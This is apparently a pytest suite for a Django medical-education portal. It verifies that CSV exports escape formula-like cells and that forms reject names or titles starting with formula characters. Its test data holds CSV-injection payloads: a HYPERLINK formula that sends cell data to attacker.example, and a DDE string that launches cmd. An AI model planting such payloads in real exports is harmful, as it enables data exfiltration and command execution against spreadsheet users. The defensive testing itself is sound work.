"""Every CSV the portal writes is safe to open in a spreadsheet, and the names and titles that go into
registry files exactly as typed cannot begin like a formula in the first place."""

import csv
import io

import pytest
from django.urls import reverse

from activities.models import Activity
from learners.models import ExportBatch
from portal.models import User
from tests.helpers import page_text
from tests.reporting.conftest import ACTIVITY_CSV, export_file

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


@pytest.fixture
def typed_before_the_rule(october, physician, pharmacist, activity):
    """Names and a title stored before they were checked at input (as an older portal would have)."""
    User.objects.filter(pk=physician.pk).update(last_name=FORMULA)
    User.objects.filter(pk=pharmacist.pk).update(first_name="@SUM(1+1)")
    Activity.objects.filter(pk=activity.pk).update(title="+Pain management update")


@pytest.mark.parametrize("preset", ["accreditor_last_month", "cpe_last_month"])
def test_registry_files_and_their_redownloads_escape_formula_cells(as_staff_a, typed_before_the_rule, preset):
    response = export_file(as_staff_a, {"preset": preset})
    text = response.content.decode("utf-8")
    batch = ExportBatch.objects.get()
    again = as_staff_a.get(reverse("admin:learners_exportbatch_download", args=[batch.pk])).content.decode(
        "utf-8"
    )
    assert again == text
    if preset == "accreditor_last_month":  # tab-delimited, carrying names and titles
        every_cell = [cell for line in text.split("\r\n") for cell in line.split("\t")]
        assert "'+Pain management update" in every_cell
        assert "'" + FORMULA in every_cell
    else:  # CPE Monitor's fields carry no names or titles
        every_cell = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not {"'@SUM(1+1)", "@SUM(1+1)", "'+Pain management update"} & set(every_cell)
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_activity_csv_escapes_formula_cells(as_staff_a, typed_before_the_rule, activity):
    names = [row[:2] for row in cells(as_staff_a.get(ACTIVITY_CSV, {"activity": activity.pk}))]
    assert ["'" + FORMULA, "Ada"] in names
    assert ["Ehrlich", "'@SUM(1+1)"] in names


def test_the_annual_report_csv_escapes_formula_cells(as_staff_a, typed_before_the_rule):
    response = as_staff_a.get(reverse("admin:learners_dashboard_csv"), {"year": "2026"})
    assert "'+Pain management update" in [cell for row in cells(response) for cell in row]


# --- refused at input ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)"])
def test_sign_up_refuses_a_name_that_begins_like_a_formula(client, name):
    response = client.post(
        reverse("account_signup"),
        {
            "email": "new@example.com",
            "password1": "a-long-enough-pass-4711",
            "password2": "a-long-enough-pass-4711",
            "first_name": "Ada",
            "last_name": name,
            "profession": "physician",
        },
    )
    assert response.status_code == 200
    assert "cannot begin with =, +, -, @, a tab or a line break" in page_text(response)
    assert not User.objects.filter(email="new@example.com").exists()


def test_the_profile_refuses_a_name_that_begins_like_a_formula(client, physician):
    client.force_login(physician)
    page = client.get(reverse("learners:profile"))
    data = {
        key: value
        for key, value in page.context["form"].initial.items()
        if value is not None and not isinstance(value, list | dict)
    }
    response = client.post(
        reverse("learners:profile"), {**data, "first_name": "=Ada", "last_name": "Lovelace"}
    )
    assert response.status_code in (200, 400)
    assert "cannot begin with =, +, -, @, a tab or a line break" in page_text(response)
    physician.refresh_from_db()
    assert physician.first_name == "Ada"


def test_the_admin_refuses_a_user_name_that_begins_like_a_formula(client, accreditor, physician):
    client.force_login(accreditor)
    url = reverse("admin:portal_user_change", args=[physician.pk])
    response = client.post(
        url,
        {
            "email": physician.email,
            "first_name": "-Ada",
            "last_name": "Lovelace",
            "is_active": "on",
            "last_login_0": "",
            "last_login_1": "",
            "date_joined_0": "2026-01-01",
            "date_joined_1": "00:00:00",
        },
    )
    assert response.status_code == 200
    assert "cannot begin with =, +, -, @, a tab or a line break" in page_text(response)
    physician.refresh_from_db()
    assert physician.first_name == "Ada"


def test_the_admin_refuses_an_activity_title_that_begins_like_a_formula(as_staff_a, activity):
    from tests.activities.test_admin import activity_form

    url = reverse("admin:activities_activity_change", args=[activity.pk])
    response = as_staff_a.post(url, activity_form(activity, title="@SUM(A1:A9)"))
    assert response.status_code == 200
    assert "cannot begin with =, +, -, @, a tab or a line break" in page_text(response)
    activity.refresh_from_db()
    assert activity.title == "Pain management update"
